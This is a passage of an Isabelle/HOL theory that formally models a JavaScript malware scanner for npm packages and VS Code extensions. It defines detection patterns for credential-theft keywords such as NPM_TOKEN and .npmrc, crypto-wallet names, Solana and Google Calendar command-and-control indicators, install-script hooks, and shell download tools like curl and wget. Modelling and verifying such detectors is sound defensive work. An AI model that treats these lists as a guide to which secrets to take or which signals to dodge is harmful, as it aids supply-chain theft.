  "KNOWN_SOLANA_WALLET = str ''28PKnu7RzizxBzFPoLp69HLXp9bJL3JFtT2s5QzHsEA2''"

text \<open>
  \<open>/\b(NPM_TOKEN|GITHUB_TOKEN|GH_TOKEN|GITHUB_API_KEY|\.npmrc|\.gitconfig|git-credentials|credentials\.helper|process\.env\.(npm|github|git))\b/i\<close>
\<close>

definition CREDENTIAL_THEFT :: regex where
  "CREDENTIAL_THEFT = \<lparr> pattern = seqs [WordB,
       Grp 1 (alts [lit ''NPM_TOKEN'', lit ''GITHUB_TOKEN'', lit ''GH_TOKEN'',
         lit ''GITHUB_API_KEY'', lit ''.npmrc'', lit ''.gitconfig'', lit ''git-credentials'',
         lit ''credentials.helper'',
         Seq (lit ''process.env.'') (Grp 2 (alts [lit ''npm'', lit ''github'', lit ''git'']))]),
       WordB],
     global = False, ignoreCase = True \<rparr>"

text \<open>
  \<open>/\b(vscode\.(workspace|window|commands|extensions)|chrome\.runtime|browser\.runtime|chrome\.storage|browser\.storage)\b/\<close>
\<close>

definition VSCODE_EXTENSION_API :: regex where
  "VSCODE_EXTENSION_API = \<lparr> pattern = seqs [WordB,
       Grp 1 (alts [
         Seq (lit ''vscode.'') (Grp 2 (alts [lit ''workspace'', lit ''window'', lit ''commands'',
           lit ''extensions''])),
         lit ''chrome.runtime'', lit ''browser.runtime'', lit ''chrome.storage'',
         lit ''browser.storage'']),
       WordB],
     global = False, ignoreCase = False \<rparr>"

text \<open>
  \<open>/\b(metamask|phantom|solflare|slope|sollet|coinbase.*wallet|trust.*wallet|ledger|trezor)\b/i\<close>
\<close>

definition CRYPTO_WALLET_EXT :: regex where
  "CRYPTO_WALLET_EXT = \<lparr> pattern = seqs [WordB,
       Grp 1 (alts [lit ''metamask'', lit ''phantom'', lit ''solflare'', lit ''slope'',
         lit ''sollet'', seqs [lit ''coinbase'', star dot, lit ''wallet''],
         seqs [lit ''trust'', star dot, lit ''wallet''], lit ''ledger'', lit ''trezor'']),
       WordB],
     global = False, ignoreCase = True \<rparr>"

subsection \<open>The regular expression literals inside \<open>inspect\<close> and \<open>sliceSnippet\<close>\<close>

text \<open>\<open>/\s+/g\<close> (lines 142 and 316)\<close>

definition WHITESPACE_RUN :: regex where
  "WHITESPACE_RUN = \<lparr> pattern = plus1 (Cls space_ranges), global = True, ignoreCase = False \<rparr>"

text \<open>
  \<open>/\b(getTransaction|getParsedTransaction|memo|@solana\/web3|Connection)\b/\<close> (line 274)
\<close>

definition SOLANA_KEYWORDS :: regex where
  "SOLANA_KEYWORDS = \<lparr> pattern = seqs [WordB,
       Grp 1 (alts [lit ''getTransaction'', lit ''getParsedTransaction'', lit ''memo'',
         lit ''@solana/web3'', lit ''Connection'']),
       WordB],
     global = False, ignoreCase = False \<rparr>"

text \<open>\<open>/calendar\.app\.google/i\<close> (line 283)\<close>

definition CALENDAR :: regex where
  "CALENDAR = \<lparr> pattern = lit ''calendar.app.google'', global = False, ignoreCase = True \<rparr>"

text \<open>\<open>/calendar\.app\.google\/[A-Za-z0-9]+/gi\<close> (line 285)\<close>

definition CALENDAR_URL :: regex where
  "CALENDAR_URL = \<lparr> pattern = Seq (lit ''calendar.app.google/'')
       (plus1 (Cls [rng CHR ''A'' CHR ''Z'', rng CHR ''a'' CHR ''z'', rng CHR ''0'' CHR ''9''])),
     global = True, ignoreCase = True \<rparr>"

text \<open>\<open>/(?:fetch|XMLHttpRequest|atob|Function|eval)\s*\(/\<close> (line 315)\<close>

definition DECODED_CALL :: regex where
  "DECODED_CALL = \<lparr> pattern = seqs
       [alts [lit ''fetch'', lit ''XMLHttpRequest'', lit ''atob'', lit ''Function'', lit ''eval''],
        star (Cls space_ranges), lit ''(''],
     global = False, ignoreCase = False \<rparr>"

text \<open>\<open>/^(postinstall|preinstall|install|prepare|prepublish(Only)?)$/i\<close> (line 329)\<close>

definition LIFECYCLE_NAME :: regex where
  "LIFECYCLE_NAME = \<lparr> pattern = seqs [Bol,
       Grp 1 (alts [lit ''postinstall'', lit ''preinstall'', lit ''install'', lit ''prepare'',
         Seq (lit ''prepublish'') (opt (Grp 2 (lit ''Only'')))]),
       Eol],
     global = False, ignoreCase = True \<rparr>"

text \<open>\<open>/\b(node|sh|bash|powershell)\b/\<close> (line 331)\<close>

definition INTERPRETER :: regex where
  "INTERPRETER = \<lparr> pattern = seqs [WordB,
       Grp 1 (alts [lit ''node'', lit ''sh'', lit ''bash'', lit ''powershell'']), WordB],
     global = False, ignoreCase = False \<rparr>"

text \<open>\<open>/\b(sh|bash|powershell|curl|wget|node)\b/\<close> (line 338)\<close>

definition SHELL_TOOL :: regex where
  "SHELL_TOOL = \<lparr> pattern = seqs [WordB,
       Grp 1 (alts [lit ''sh'', lit ''bash'', lit ''powershell'', lit ''curl'', lit ''wget'',
         lit ''node'']), WordB],
     global = False, ignoreCase = False \<rparr>"

subsection \<open>Sequencing statements that can throw\<close>

definition bind_err :: "'e + 'a \<Rightarrow> ('a \<Rightarrow> 'e + 'b) \<Rightarrow> 'e + 'b" where
  "bind_err m f = (case m of Inl e \<Rightarrow> Inl e | Inr x \<Rightarrow> f x)"

text \<open>\<open>a || b\<close> on booleans, where evaluating either side can throw.\<close>

definition or_else :: "'e + bool \<Rightarrow> 'e + bool \<Rightarrow> 'e + bool" where
  "or_else a b = (case a of Inl e \<Rightarrow> Inl e | Inr x \<Rightarrow> if x then Inr True else b)"

text \<open>\<open>a && b\<close>, likewise.\<close>

definition and_also :: "'e + bool \<Rightarrow> 'e + bool \<Rightarrow> 'e + bool" where
  "and_also a b = (case a of Inl e \<Rightarrow> Inl e | Inr x \<Rightarrow> if x then b else Inr False)"

text \<open>\<open>xs.filter(f)\<close> for a callback that can throw.\<close>

fun filter_err :: "('a \<Rightarrow> 'e + bool) \<Rightarrow> 'a list \<Rightarrow> 'e + 'a list" where
  "filter_err f [] = Inr []"
| "filter_err f (x # xs) =
     bind_err (f x) (\<lambda>keep. bind_err (filter_err f xs) (\<lambda>ys. Inr (if keep then x # ys else ys)))"

subsection \<open>Paths (\<open>path.basename\<close>, \<open>path.extname\<close>; POSIX) and the name gates\<close>

text \<open>
  \<open>path.basename\<close>: the part after the last \<open>/\<close> (code unit 47), trailing slashes
  dropped. \<open>path.extname\<close>: from the last \<open>.\<close> (code unit 46) of the base name to
  its end; empty when the base name has no dot, starts with its only relevant dot, or
  is \<open>..\<close>.
\<close>

definition basename :: "jsstring \<Rightarrow> jsstring" where
  "basename p = rev (takeWhile (\<lambda>c. c \<noteq> 47) (dropWhile (\<lambda>c. c = 47) (rev p)))"

definition ext_of_base :: "jsstring \<Rightarrow> jsstring" where
  "ext_of_base b =
     (let n = length (takeWhile (\<lambda>c. c \<noteq> 46) (rev b))
      in if n = length b then []
         else if n + 1 = length b then []
         else if b = [46, 46] then []
         else drop (length b - (n + 1)) b)"

definition extname :: "jsstring \<Rightarrow> jsstring" where
  "extname p = ext_of_base (basename p)"

text \<open>\<open>jsLike\<close> (lines 94-97)\<close>

definition jsLike :: "jsstring \<Rightarrow> jsstring \<Rightarrow> bool" where
  "jsLike ext file =
     (if ext = str ''.json'' then basename file = str ''package.json''
      else ext \<in> set ALLOWED_EXT)"

text \<open>\<open>ignoreName\<close> (lines 104-108)\<close>

definition ignoreName :: "jsstring \<Rightarrow> bool" where
  "ignoreName name =
     (if name \<in> set IGNORE_FILES then True
      else list_ex (\<lambda>suf. endsWith name suf) SKIP_SUFFIX)"

text \<open>
  \<open>sliceSnippet\<close> (lines 139-143). \<open>idx - span div 2\<close> is the truncated subtraction
  of natural numbers, which is the source's \<open>Math.max(0, idx - Math.floor(span/2))\<close>.
\<close>

definition sliceSnippet :: "jsstring \<Rightarrow> nat \<Rightarrow> nat \<Rightarrow> jsstring" where
  "sliceSnippet text idx span =
     (let s = idx - span div 2;
          e = min (length text) (idx + span div 2)
      in String_replace (String_slice text s e) WHITESPACE_RUN (str '' ''))"

subsection \<open>The values \<open>JSON.parse\<close> returns\<close>

text \<open>
  A number is kept as the string that \<open>Number.prototype.toString\<close> gives for it, which
  is all the program can observe of it besides its being zero. An object is the list
  of its own properties in \<open>Object.entries\<close> order, with distinct keys. In the places
  where the program reads a property, \<open>None\<close> stands for \<open>undefined\<close>.
\<close>

datatype json =
    JNull
  | JBool bool
  | JNum jsstring
  | JStr jsstring
  | JArr "json list"
  | JObj "(jsstring \<times> json) list"

fun truthy :: "json \<Rightarrow> bool" where
  "truthy JNull = False"
| "truthy (JBool b) = b"
| "truthy (JNum r) = (r \<noteq> str ''0'')"
| "truthy (JStr s) = (s \<noteq> [])"
| "truthy (JArr xs) = True"
| "truthy (JObj kvs) = True"

definition truthy_opt :: "json option \<Rightarrow> bool" where
  "truthy_opt v = (case v of None \<Rightarrow> False | Some x \<Rightarrow> truthy x)"

text \<open>
  \<open>v.k\<close> for the property names the program reads (\<open>scripts\<close>, \<open>bin\<close>, \<open>engines\<close>,
  \<open>vscode\<close>, \<open>activationEvents\<close>): none of them is defined on the prototype of a
  string, number, boolean, array or plain object, so only an own property of an object
  is found. Reading a property of \<open>null\<close> throws.
\<close>

definition get_prop :: "json \<Rightarrow> string \<Rightarrow> js_error + json option" where
  "get_prop v k =
     (case v of
        JNull \<Rightarrow> Inl (TypeError ''Cannot read properties of null'')
      | JObj kvs \<Rightarrow> Inr (map_of kvs (str k))
      | _ \<Rightarrow> Inr None)"

text \<open>The decimal digits of a natural number: the keys of array and string entries.\<close>

function show_nat :: "nat \<Rightarrow> jsstring" where
  "show_nat n = (if n < 10 then [48 + n] else show_nat (n div 10) @ [48 + n mod 10])"
  by pat_completeness auto
termination
  by (relation "measure id") auto

declare show_nat.simps [simp del]

text \<open>
  \<open>Object.entries(v)\<close>. It throws on \<open>null\<close>; a number or boolean has no own
  enumerable property; a string and an array have one per index.
\<close>

definition Object_entries :: "json \<Rightarrow> js_error + (jsstring \<times> json) list" where
  "Object_entries v =
     (case v of
        JNull \<Rightarrow> Inl (TypeError ''Cannot convert undefined or null to object'')
      | JObj kvs \<Rightarrow> Inr kvs
      | JArr xs \<Rightarrow> Inr (zip (map show_nat [0..<length xs]) xs)
      | JStr s \<Rightarrow> Inr (zip (map show_nat [0..<length s]) (map (\<lambda>c. JStr [c]) s))
      | _ \<Rightarrow> Inr [])"

text \<open>
  \<open>ToString(v)\<close>, the conversion \<open>RegExp.prototype.test\<close> applies to its argument.
  An array joins the conversions of its elements with commas, \<open>null\<close> elements giving
  the empty string. A plain object gives \<open>[object Object]\<close> through
  \<open>Object.prototype.toString\<close>, unless it has an own property \<open>toString\<close>: a parsed
  value is never callable, \<open>valueOf\<close> (own and not callable, or inherited and returning
  the object itself) gives no primitive either, and the conversion throws.
\<close>

fun join_comma :: "('e + jsstring) list \<Rightarrow> 'e + jsstring" where
  "join_comma [] = Inr []"
| "join_comma [r] = r"
| "join_comma (r # rs) =
     bind_err r (\<lambda>a. bind_err (join_comma rs) (\<lambda>b. Inr (a @ [44] @ b)))"

fun ToString :: "json \<Rightarrow> js_error + jsstring" where
  "ToString JNull = Inr (str ''null'')"
| "ToString (JBool b) = Inr (if b then str ''true'' else str ''false'')"
| "ToString (JNum r) = Inr r"
| "ToString (JStr s) = Inr s"
| "ToString (JArr xs) =
     join_comma (map (\<lambda>x. if x = JNull then Inr [] else ToString x) xs)"
| "ToString (JObj kvs) =
     (if str ''toString'' \<in> set (map fst kvs)
      then Inl (TypeError ''Cannot convert object to primitive value'')
      else Inr (str ''[object Object]''))"

text \<open>\<open>re.test(v)\<close> for a parsed value \<open>v\<close> and an expression without the \<open>g\<close> flag.\<close>

definition test_val :: "regex \<Rightarrow> json \<Rightarrow> js_error + bool" where
  "test_val re v = bind_err (ToString v) (\<lambda>s. Inr (test re s))"

subsection \<open>The runtime, the files and the configuration\<close>

text \<open>
  Three functions of the Node.js runtime are parameters of the model:
  \<open>buf.toString('utf8')\<close>, \<open>Buffer.from(s, 'base64')\<close> and \<open>JSON.parse\<close>.
\<close>

record runtime =
  utf8_toString :: "buffer \<Rightarrow> jsstring"
  base64_decode :: "jsstring \<Rightarrow> buffer"
  JSON_parse :: "jsstring \<Rightarrow> js_error + json"

text \<open>
  A file as \<open>inspect\<close> sees it: its path, the size \<open>fs.stat\<close> reports and the bytes
  \<open>fs.readFile\<close> returns; \<open>None\<close> when the call rejects.
\<close>

record fs_file =
  path :: jsstring
  stat_size :: "nat option"
  content :: "buffer option"

text \<open>
  What the program reads from its environment once: \<open>MIN_SCORE\<close>, \<open>INCLUDE_LOW\<close>
  and \<open>INSPECT_TIMEOUT\<close> (lines 28-30), and the number of processors
  \<open>os.cpus().length\<close> (line 27). \<open>MIN_SCORE\<close> is taken to be an integer.
\<close>

record config =
  minScore :: int
  includeLow :: bool
  perFileTimeoutMs :: nat
  cpus :: nat

subsection \<open>\<open>decodeB64\<close> (lines 78-86)\<close>

definition decodeB64 :: "runtime \<Rightarrow> jsstring \<Rightarrow> jsstring option" where
  "decodeB64 rt s =
     (let buf = base64_decode rt s in
      if length buf = 0 then None
      else let text = utf8_toString rt buf in
           if isBinaryLikely buf then None else Some text)"

subsection \<open>The evidence object \<open>details\<close>\<close>

record details =
  d_invisIdentifiers :: "jsstring list option"
  d_suspiciousWords :: "(jsstring \<times> jsstring) option"
  d_ips :: "jsstring list option"
  d_knownC2Ips :: "jsstring list option"
  d_solanaWallets :: "jsstring list option"
  d_hasKnownMaliciousWallet :: bool
  d_calendarUrls :: "jsstring list option"
  d_credentialPatterns :: "jsstring list option"
  d_targetedWallets :: "jsstring list option"
  d_base64 :: "(jsstring \<times> jsstring) list option"
  d_pkgScripts :: "(jsstring \<times> json) list option"
  d_pkgExecNet :: "(jsstring \<times> json) list option"
  d_vsCodeEngine :: "json option"
  d_activationEvents :: "json option"

definition details0 :: details where
  "details0 = \<lparr> d_invisIdentifiers = None, d_suspiciousWords = None, d_ips = None,
     d_knownC2Ips = None, d_solanaWallets = None, d_hasKnownMaliciousWallet = False,
     d_calendarUrls = None, d_credentialPatterns = None, d_targetedWallets = None,
     d_base64 = None, d_pkgScripts = None, d_pkgExecNet = None, d_vsCodeEngine = None,
     d_activationEvents = None \<rparr>"

type_synonym pd = "parts \<times> details"

subsection \<open>\<open>inspect\<close>, source files (lines 231-322)\<close>

text \<open>
  Lines 232-238. \<open>INVIS\<close> carries the \<open>g\<close> flag, so \<open>INVIS.test\<close> reads and writes
  \<open>INVIS.lastIndex\<close>, which outlives the call of \<open>inspect\<close>: it is an argument and a
  result of the model.
\<close>

definition detect_invisible :: "nat \<Rightarrow> jsstring \<Rightarrow> pd \<Rightarrow> nat \<times> pd" where
  "detect_invisible lastIndex t st =
     (case st of (p, d) \<Rightarrow>
        (case String_match t INVIS_ID of
           Some (m # ms) \<Rightarrow>
             (lastIndex, (p\<lparr>invisInIdentifier := True\<rparr>,
                d\<lparr>d_invisIdentifiers := Some (uniq (String_slice (m # ms) 0 5))\<rparr>))
         | _ \<Rightarrow>
             (case RegExp_test INVIS lastIndex t of
                (hit, lastIndex') \<Rightarrow>
                  (lastIndex', if hit then (p\<lparr>invisAnywhere := True\<rparr>, d) else (p, d)))))"

text \<open>
  Lines 240-244. \<open>m[0]\<close> would throw if \<open>exec\<close> returned \<open>null\<close>; it never does
  after a successful \<open>test\<close> (\<open>detect_suspicious_total\<close> below).
\<close>

definition detect_suspicious :: "jsstring \<Rightarrow> pd \<Rightarrow> js_error + pd" where
  "detect_suspicious t st =
     (case st of (p, d) \<Rightarrow>
        if test SUS_WORDS t then
          (case exec SUS_WORDS t of
             None \<Rightarrow> Inl (TypeError ''Cannot read properties of null'')
           | Some m \<Rightarrow>
               Inr (p\<lparr>suspiciousWords := True\<rparr>,
                    d\<lparr>d_suspiciousWords := Some (m0 t m, sliceSnippet t (fst m) 140)\<rparr>))
        else Inr (p, d))"

text \<open>Lines 246-256.\<close>

definition detect_netFuncs :: "jsstring \<Rightarrow> pd \<Rightarrow> pd" where
  "detect_netFuncs t st =
     (case st of (p, d) \<Rightarrow> if test NET_FUNCS t then (p\<lparr>netFuncs := True\<rparr>, d) else (p, d))"

definition detect_dangerous :: "jsstring \<Rightarrow> pd \<Rightarrow> pd" where
  "detect_dangerous t st =
     (case st of (p, d) \<Rightarrow> if test DANGEROUS t then (p\<lparr>dangerous := True\<rparr>, d) else (p, d))"

definition detect_shellDownload :: "jsstring \<Rightarrow> pd \<Rightarrow> pd" where
  "detect_shellDownload t st =
     (case st of (p, d) \<Rightarrow>
        if test SHELL_DOWNLOAD t then (p\<lparr>shellDownload := True\<rparr>, d) else (p, d))"

text \<open>Lines 258-268.\<close>

definition public_ip :: "jsstring \<Rightarrow> bool" where
  "public_ip ip =
     (\<not> startsWith ip (str ''127.'') \<and> \<not> startsWith ip (str ''0.'') \<and>
      \<not> startsWith ip (str ''10.'') \<and> \<not> startsWith ip (str ''192.168.'') \<and>
      \<not> startsWith ip (str ''172.16.''))"

definition detect_ips :: "jsstring \<Rightarrow> pd \<Rightarrow> js_error + pd" where
  "detect_ips t st =
     (case st of (p, d) \<Rightarrow>
        bind_err (String_matchAll t IP) (\<lambda>ms.
          let ips = filter public_ip (map (m0 t) ms) in
          if length ips \<noteq> 0 then
            (let p1 = p\<lparr>hardcodedIp := True\<rparr>;
                 d1 = d\<lparr>d_ips := Some (String_slice (uniq ips) 0 8)\<rparr>;
                 knownIps = filter (\<lambda>ip. ip \<in> set KNOWN_C2_IPS) ips
             in if length knownIps \<noteq> 0
                then Inr (p1\<lparr>knownC2Infrastructure := True\<rparr>, d1\<lparr>d_knownC2Ips := Some knownIps\<rparr>)
                else Inr (p1, d1))
          else Inr (p, d)))"

text \<open>Lines 270-280.\<close>

definition detect_solana :: "jsstring \<Rightarrow> pd \<Rightarrow> js_error + pd" where
  "detect_solana t st =
     (case st of (p, d) \<Rightarrow>
        if test SOLANA_WALLET t then
          bind_err (String_matchAll t SOLANA_WALLET) (\<lambda>ms.
            let wallets = map (m0 t) ms;
                hasKnownWallet = (KNOWN_SOLANA_WALLET \<in> set wallets);
                hasSolanaKeywords = test SOLANA_KEYWORDS t
            in if hasKnownWallet \<or> (length wallets \<noteq> 0 \<and> hasSolanaKeywords)
               then Inr (p\<lparr>solanaBlockchainC2 := True\<rparr>,
                         d\<lparr>d_solanaWallets := Some (String_slice (uniq wallets) 0 5),
                           d_hasKnownMaliciousWallet :=
                             (if hasKnownWallet then True else d_hasKnownMaliciousWallet d)\<rparr>)
               else Inr (p, d))
        else Inr (p, d))"

text \<open>Lines 282-287.\<close>

definition detect_calendar :: "jsstring \<Rightarrow> pd \<Rightarrow> js_error + pd" where
  "detect_calendar t st =
     (case st of (p, d) \<Rightarrow>
        if test CALENDAR t then
          bind_err (String_matchAll t CALENDAR_URL) (\<lambda>ms.
            Inr (p\<lparr>googleCalendarC2 := True\<rparr>,
                 d\<lparr>d_calendarUrls := Some (String_slice (uniq (map (m0 t) ms)) 0 3)\<rparr>))
        else Inr (p, d))"

text \<open>Lines 289-294.\<close>

definition detect_credentialTheft :: "jsstring \<Rightarrow> pd \<Rightarrow> js_error + pd" where
  "detect_credentialTheft t st =
     (case st of (p, d) \<Rightarrow>
        if test CREDENTIAL_THEFT t then
          bind_err (String_matchAll t CREDENTIAL_THEFT) (\<lambda>ms.
            Inr (p\<lparr>credentialTheft := True\<rparr>,
                 d\<lparr>d_credentialPatterns := Some (String_slice (uniq (map (m0 t) ms)) 0 5)\<rparr>))
        else Inr (p, d))"

text \<open>Lines 296-299.\<close>

definition detect_vscode :: "jsstring \<Rightarrow> pd \<Rightarrow> pd" where
  "detect_vscode t st =
     (case st of (p, d) \<Rightarrow>
        if test VSCODE_EXTENSION_API t then (p\<lparr>vsCodeExtensionAPI := True\<rparr>, d) else (p, d))"

text \<open>Lines 301-306.\<close>

definition detect_cryptoWallet :: "jsstring \<Rightarrow> pd \<Rightarrow> js_error + pd" where
  "detect_cryptoWallet t st =
     (case st of (p, d) \<Rightarrow>
        if test CRYPTO_WALLET_EXT t then
          bind_err (String_matchAll t CRYPTO_WALLET_EXT) (\<lambda>ms.
            Inr (p\<lparr>cryptoWalletTargeting := True\<rparr>,
                 d\<lparr>d_targetedWallets := Some (String_slice (uniq (map (m0 t) ms)) 0 10)\<rparr>))
        else Inr (p, d))"

text \<open>
  Lines 308-322. The loop body for one match: \<open>None\<close> when nothing is pushed to
  \<open>b64Hits\<close>. The loop leaves at its 51st match, so it runs over the first 50.
\<close>

definition b64_hit :: "runtime \<Rightarrow> jsstring \<Rightarrow> rmatch \<Rightarrow> (jsstring \<times> jsstring) option" where
  "b64_hit rt t m =
     (let b64str = (case mgroup t m 1 of
                      None \<Rightarrow> m0 t m
                    | Some g \<Rightarrow> if g \<noteq> [] then g else m0 t m)
      in case decodeB64 rt b64str of
           None \<Rightarrow> None
         | Some decoded \<Rightarrow>
             if decoded = [] then None
             else if test HTTP decoded \<or> test DECODED_CALL decoded
             then Some (String_slice b64str 0 80 @ (if length b64str > 80 then [0x2026] else []),
                        String_replace (String_slice decoded 0 200) WHITESPACE_RUN (str '' ''))
             else None)"

definition detect_base64 :: "runtime \<Rightarrow> jsstring \<Rightarrow> pd \<Rightarrow> js_error + pd" where
  "detect_base64 rt t st =
     (case st of (p, d) \<Rightarrow>
        bind_err (String_matchAll t B64) (\<lambda>ms.
          let b64Hits = List.map_filter (b64_hit rt t) (take 50 ms) in
          if length b64Hits \<noteq> 0
          then Inr (p\<lparr>b64UrlDecoded := True\<rparr>, d\<lparr>d_base64 := Some (String_slice b64Hits 0 3)\<rparr>)
          else Inr (p, d)))"

text \<open>The whole block, in the order of the source.\<close>

definition sourceSignals :: "runtime \<Rightarrow> nat \<Rightarrow> jsstring \<Rightarrow> pd \<Rightarrow> nat \<times> (js_error + pd)" where
  "sourceSignals rt lastIndex t st =
     (case detect_invisible lastIndex t st of
        (lastIndex', st1) \<Rightarrow>
          (lastIndex',
           bind_err (detect_suspicious t st1) (\<lambda>st2.
           bind_err (detect_ips t (detect_shellDownload t (detect_dangerous t (detect_netFuncs t st2)))) (\<lambda>st3.
           bind_err (detect_solana t st3) (\<lambda>st4.
           bind_err (detect_calendar t st4) (\<lambda>st5.
           bind_err (detect_credentialTheft t st5) (\<lambda>st6.
           bind_err (detect_cryptoWallet t (detect_vscode t st6)) (\<lambda>st7.
           detect_base64 rt t st7))))))))"

subsection \<open>\<open>inspect\<close>, the manifest (lines 323-356)\<close>

text \<open>Lines 329-332: whether the script \<open>k: v\<close> is added to \<open>sus\<close>.\<close>

definition script_hit :: "jsstring \<Rightarrow> json \<Rightarrow> js_error + bool" where
  "script_hit k v =
     (let nameHit = test LIFECYCLE_NAME k in
      bind_err (or_else (test_val HTTP v) (test_val SHELL_DOWNLOAD v)) (\<lambda>netHit.
      bind_err (or_else (test_val DANGEROUS v) (test_val INTERPRETER v)) (\<lambda>execHit.
      Inr (nameHit \<and> (netHit \<or> execHit)))))"

text \<open>The loop of lines 328-333, with \<open>sus\<close> as its accumulator.\<close>

fun scripts_loop :: "(jsstring \<times> json) list \<Rightarrow> (jsstring \<times> json) list
    \<Rightarrow> js_error + (jsstring \<times> json) list" where
  "scripts_loop [] sus = Inr sus"
| "scripts_loop ((k, v) # es) sus =
     bind_err (script_hit k v) (\<lambda>hit. scripts_loop es (if hit then sus @ [(k, v)] else sus))"

text \<open>The callback of line 338.\<close>

definition exec_net :: "jsstring \<times> json \<Rightarrow> js_error + bool" where
  "exec_net kv = and_also (test_val HTTP (snd kv)) (test_val SHELL_TOOL (snd kv))"

text \<open>
  A statement of the \<open>try\<close> block that can throw: when it does, the block is left
  with \<open>parts\<close> and \<open>details\<close> as they are at that point.
\<close>

definition try_bind :: "js_error + 'a \<Rightarrow> pd \<Rightarrow> ('a \<Rightarrow> pd \<times> js_error option)
    \<Rightarrow> pd \<times> js_error option" where
  "try_bind m st f = (case m of Inl e \<Rightarrow> (st, Some e) | Inr x \<Rightarrow> f x)"

text \<open>Lines 334-343.\<close>

definition manifest_scripts :: "(jsstring \<times> json) list \<Rightarrow> (jsstring \<times> json) list \<Rightarrow> pd
    \<Rightarrow> pd \<times> js_error option" where
  "manifest_scripts entries sus st =
     (case st of (p, d) \<Rightarrow>
        if length sus \<noteq> 0
        then ((p\<lparr>pkgPostInstall := True\<rparr>, d\<lparr>d_pkgScripts := Some sus\<rparr>), None)
        else try_bind (filter_err exec_net entries) st (\<lambda>execNet.
               if length execNet \<noteq> 0
               then ((p\<lparr>pkgExecNet := True\<rparr>,
                      d\<lparr>d_pkgExecNet := Some (String_slice execNet 0 5)\<rparr>), None)
               else (st, None)))"

text \<open>Lines 344-346.\<close>

definition manifest_bin :: "json \<Rightarrow> pd \<Rightarrow> pd \<times> js_error option" where
  "manifest_bin pj st =
     (case st of (p, d) \<Rightarrow>
        try_bind (get_prop pj ''bin'') st (\<lambda>bin.
          (case bin of
             Some (JObj kvs) \<Rightarrow> if length kvs \<noteq> 0 then (p\<lparr>fileIsExecutableScript := True\<rparr>, d) else st
           | Some (JArr xs) \<Rightarrow> if length xs \<noteq> 0 then (p\<lparr>fileIsExecutableScript := True\<rparr>, d) else st
           | _ \<Rightarrow> st,
           None)))"

text \<open>Lines 347-354.\<close>

definition manifest_engines :: "json \<Rightarrow> pd \<Rightarrow> pd \<times> js_error option" where
  "manifest_engines pj st =
     (case st of (p, d) \<Rightarrow>
        try_bind (get_prop pj ''engines'') st (\<lambda>engines.
          (case engines of
             None \<Rightarrow> (st, None)
           | Some eng \<Rightarrow>
               if \<not> truthy eng then (st, None)
               else try_bind (get_prop eng ''vscode'') st (\<lambda>vscode.
                 if \<not> truthy_opt vscode then (st, None)
                 else try_bind (get_prop pj ''activationEvents'') st (\<lambda>ev.
                   ((p\<lparr>vsCodeExtensionAPI := True\<rparr>,
                     d\<lparr>d_vsCodeEngine := vscode,
                       d_activationEvents := (if truthy_opt ev then ev else d_activationEvents d)\<rparr>),
                    None))))))"

text \<open>
  The \<open>try\<close> block of lines 324-355: the final \<open>parts\<close> and \<open>details\<close>, and the error
  that ended the block, if any. The \<open>catch\<close> clause is empty, so \<open>manifestSignals\<close>
  keeps the first component only.
\<close>

definition manifest_try :: "runtime \<Rightarrow> jsstring \<Rightarrow> pd \<Rightarrow> pd \<times> js_error option" where
  "manifest_try rt text st =
     try_bind (JSON_parse rt text) st (\<lambda>pj.
     try_bind (get_prop pj ''scripts'') st (\<lambda>sc.
       let scripts = (case sc of None \<Rightarrow> JObj [] | Some v \<Rightarrow> if truthy v then v else JObj []) in
       try_bind (Object_entries scripts) st (\<lambda>entries.
       try_bind (scripts_loop entries []) st (\<lambda>sus.
         (case manifest_scripts entries sus st of
            (st1, Some e) \<Rightarrow> (st1, Some e)
          | (st1, None) \<Rightarrow>
              (case manifest_bin pj st1 of
                 (st2, Some e) \<Rightarrow> (st2, Some e)
               | (st2, None) \<Rightarrow> manifest_engines pj st2))))))"

definition manifestSignals :: "runtime \<Rightarrow> jsstring \<Rightarrow> pd \<Rightarrow> pd" where
  "manifestSignals rt text st = fst (manifest_try rt text st)"

subsection \<open>\<open>inspect\<close>, the result (lines 358-376)\<close>

datatype sigval = SBool bool | SNum nat

fun sig_truthy :: "sigval \<Rightarrow> bool" where
  "sig_truthy (SBool b) = b"
| "sig_truthy (SNum n) = (n \<noteq> 0)"

record finding =
  f_file :: jsstring
  f_level :: level
  f_score :: int
  f_signals :: "(string \<times> sigval) list"
  f_details :: details

text \<open>Lines 358-362.\<close>

definition count_signals :: "parts \<Rightarrow> nat" where
  "count_signals p =
     length (filter (\<lambda>b. b)
       [invisInIdentifier p, suspiciousWords p, netFuncs p, dangerous p, shellDownload p,
        hardcodedIp p, b64UrlDecoded p, pkgPostInstall p, pkgExecNet p, solanaBlockchainC2 p,
        googleCalendarC2 p, credentialTheft p, cryptoWalletTargeting p])"

text \<open>\<open>Object.entries(parts)\<close>, in the order of the object literal.\<close>

definition parts_entries :: "parts \<Rightarrow> (string \<times> sigval) list" where
  "parts_entries p =
     [(''invisInIdentifier'', SBool (invisInIdentifier p)),
      (''invisAnywhere'', SBool (invisAnywhere p)),
      (''suspiciousWords'', SBool (suspiciousWords p)),
      (''netFuncs'', SBool (netFuncs p)),
      (''dangerous'', SBool (dangerous p)),
      (''shellDownload'', SBool (shellDownload p)),
      (''hardcodedIp'', SBool (hardcodedIp p)),
      (''b64UrlDecoded'', SBool (b64UrlDecoded p)),
      (''pkgPostInstall'', SBool (pkgPostInstall p)),
      (''pkgExecNet'', SBool (pkgExecNet p)),
      (''fileIsExecutableScript'', SBool (fileIsExecutableScript p)),
      (''knownC2Infrastructure'', SBool (knownC2Infrastructure p)),
      (''solanaBlockchainC2'', SBool (solanaBlockchainC2 p)),
      (''googleCalendarC2'', SBool (googleCalendarC2 p)),
      (''credentialTheft'', SBool (credentialTheft p)),
      (''vsCodeExtensionAPI'', SBool (vsCodeExtensionAPI p)),
      (''cryptoWalletTargeting'', SBool (cryptoWalletTargeting p)),
      (''multipleSignals'', SNum (multipleSignals p))]"

text \<open>
  Lines 358-376: the count of independent signals, the score, the level, the
  low-severity filter and the finding. \<open>None\<close> is \<open>return null\<close>.
\<close>

definition conclude :: "config \<Rightarrow> jsstring \<Rightarrow> pd \<Rightarrow> finding option" where
  "conclude cfg file st =
     (case st of (p0, d) \<Rightarrow>
        let p = p0\<lparr>multipleSignals := count_signals p0\<rparr>;
            score = scoreFinding p;
            level = classify score
        in if level = Low \<and> \<not> includeLow cfg
           then (if score < minScore cfg then None
                 else Some \<lparr> f_file = file, f_level = level, f_score = score,
                        f_signals = filter (\<lambda>(k, v). sig_truthy v) (parts_entries p),
                        f_details = d \<rparr>)
           else Some \<lparr> f_file = file, f_level = level, f_score = score,
